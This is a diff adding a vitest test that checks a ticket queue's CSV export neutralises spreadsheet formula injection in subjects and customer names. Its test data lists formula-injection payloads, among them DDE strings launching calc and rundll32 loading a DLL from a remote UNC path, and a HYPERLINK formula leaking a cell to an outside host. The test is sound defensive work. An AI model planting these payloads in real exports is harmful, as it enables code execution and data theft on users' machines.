@@ -1,6 +1,7 @@
 import { sql } from 'drizzle-orm'
 import { expect, test } from 'vitest'
 import { db, sql as pool } from '@/db/client'
+import { withCorpus } from '@/e2e/threats/strings'
 import { openSession } from '@/lib/auth/sessions'
 import { sessionId } from '@/lib/auth/token'
 import { TooMany } from '@/lib/errors'
@@ -45,6 +46,45 @@ test('an export tells the tags of each ticket by their names, in their order', a
   expect(tagged).toContain('"Tagged","open","medium","portal"')
   expect(tagged).toContain('"apple, beta, vip"')
   expect(bare).toMatch(/"Bare","open","medium","portal",,,,"Carla Customer","[^"]+",,,"/)
+})
+
+/** The cells of a table as RFC 4180 writes it: each is in quotes, or has none. */
+const cellsOf = (csv: string) =>
+  [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(([, quoted, bare = '']) =>
+    quoted === undefined ? bare : quoted.replaceAll('""', '"'),
+  )
+
+const formulas = [
+  '=1+1',
+  '+1',
+  '-1+2',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3.dll,0'!_xlbgnm.A1",
+  '=HYPERLINK("http://a.test?"&A1,"x")',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠A',
+  'a","=1+1',
+  '"=1+1',
+]
+
+test('no subject and no name becomes a formula of the table, and all of them can be read', async () => {
+  const sam = await supervisor()
+  for (const formula of withCorpus(formulas, 'injection/csv_formula.json', 20))
+    await filed(await customer(formula), formula)
+  let text = ''
+  for await (const piece of queueAsCsv(sam, readQueueFilter({}), new Date())) text += piece
+  const cells = cellsOf(text)
+  for (const formula of formulas) {
+    const asText = /^[=+\-@＝＋－＠]/.test(formula) ? `'${formula}` : formula
+    // As the subject, and as the name of who filed it.
+    expect(
+      cells.filter((cell) => cell === asText),
+      formula,
+    ).toHaveLength(2)
+  }
+  expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
 })
 
 test('exports that nobody reads on hold no connection; each has every ticket once, as it is when it is read', async () => {
